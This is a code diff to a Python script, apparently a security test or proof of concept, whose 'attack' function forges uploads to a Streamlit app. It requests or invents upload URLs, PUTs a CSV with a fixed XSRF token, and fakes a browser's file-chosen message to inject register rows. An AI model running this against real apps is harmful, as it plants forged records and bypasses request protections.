@@ -10,7 +10,7 @@ import json
 import sys
 import uuid
 from collections.abc import AsyncIterator, Mapping
-from contextlib import asynccontextmanager
+from contextlib import asynccontextmanager, suppress
 from dataclasses import asdict, dataclass, field
 from typing import Any
 from urllib.parse import urlsplit
@@ -20,8 +20,8 @@ from streamlit.proto.ForwardMsg_pb2 import ForwardMsg
 from websockets.asyncio.client import ClientConnection, connect
 from websockets.exceptions import InvalidStatus
 
-REGISTER = "Data;Program;Miejsce;Uczestnicy razem;Nr własny\n12.03.2025;wroclaw-pal-aktywna-polanka;Ołbin;24;A-1\n"
-"""One row, as it should be, of the records of this checkout."""
+REGISTER = "Data;Program;Miejsce;Uczestnicy razem;Nr własny\n12.03.2025;wroclaw-pal-aktywna-polanka;Ołbin;24;{id}\n"
+"""One row, as it should be, of the records of this checkout; another one for every id."""
 
 PATIENCE_S = 30.0
 XSRF = "2|00000000|00112233445566778899aabbccddeeff|1700000000"
@@ -83,11 +83,12 @@ async def attack(given: Attack) -> Outcome:
             session = await _run(socket, found)
             widget = found.asked.get("file_uploader") or given.widget
             found.offered = "file_uploader" in found.asked
-            file = str(uuid.uuid4())
-            path = f"{urlsplit(given.url).path.rstrip('/')}/_stcore/upload_file/{session}/{file}"
-            found.uploaded = await asyncio.to_thread(_upload, given, path)
+            file, path = await _place(socket, session)
+            text = REGISTER.format(id=f"A-{file[:8]}").encode()
+            below = urlsplit(given.url).path.rstrip("/")
+            found.uploaded = await asyncio.to_thread(_upload, given, below + path, text)
             if widget:
-                await _run(socket, found, _chosen(widget, path, file))
+                await _run(socket, found, _chosen(widget, path, file, len(text)))
     except InvalidStatus:
         pass
     return found
@@ -164,27 +165,41 @@ def _take_down(message: ForwardMsg, found: Outcome) -> None:
         found.asked[kind] = id_
 
 
-def _upload(given: Attack, path: str) -> int:
+async def _place(socket: ClientConnection, session: str) -> tuple[str, str]:
+    """The id and path that the server gives to a file; those of its own that a visitor makes up where it gives none."""
+    sent = BackMsg()
+    sent.file_urls_request.request_id, sent.file_urls_request.session_id = "1", session
+    sent.file_urls_request.file_names.append("a.csv")
+    await socket.send(sent.SerializeToString())
+    file = str(uuid.uuid4())
+    with suppress(TimeoutError):
+        async with asyncio.timeout(2):
+            while True:
+                message = ForwardMsg.FromString(await socket.recv())
+                if message.WhichOneof("type") == "file_urls_response":
+                    for urls in message.file_urls_response.file_urls:
+                        return urls.file_id, urls.upload_url
+                    break
+    return file, f"/_stcore/upload_file/{session}/{file}"
+
+
+def _upload(given: Attack, path: str, text: bytes) -> int:
     parts = urlsplit(given.url)
     boundary = "b" * 20
-    body = (
-        f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="a.csv"\r\n'
-        f"Content-Type: text/csv\r\n\r\n{REGISTER}\r\n--{boundary}--\r\n"
-    ).encode()
+    head = f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="a.csv"\r\n'
+    body = f"{head}Content-Type: text/csv\r\n\r\n".encode() + text + f"\r\n--{boundary}--\r\n".encode()
     headers = {**given.written(), "X-Xsrftoken": XSRF, "Content-Type": f"multipart/form-data; boundary={boundary}"}
     headers |= {"Host": given.host} if given.host else {}
     answer = requested(f"{parts.scheme}://{parts.netloc}{path}", "PUT", headers=headers, body=body)
     return int(answer.status)
 
 
-def _chosen(widget: str, path: str, file: str) -> BackMsg:
+def _chosen(widget: str, path: str, file: str, size: int) -> BackMsg:
     """What a browser says once a file is chosen and sent."""
     sent = BackMsg()
     sent.rerun_script.page_name = "rejestry"
     state = sent.rerun_script.widget_states.widgets.add(id=widget)
-    info = state.file_uploader_state_value.uploaded_file_info.add(
-        name="a.csv", size=len(REGISTER.encode()), file_id=file
-    )
+    info = state.file_uploader_state_value.uploaded_file_info.add(name="a.csv", size=size, file_id=file)
     info.file_urls.file_id, info.file_urls.upload_url, info.file_urls.delete_url = file, path, path
     return sent
 
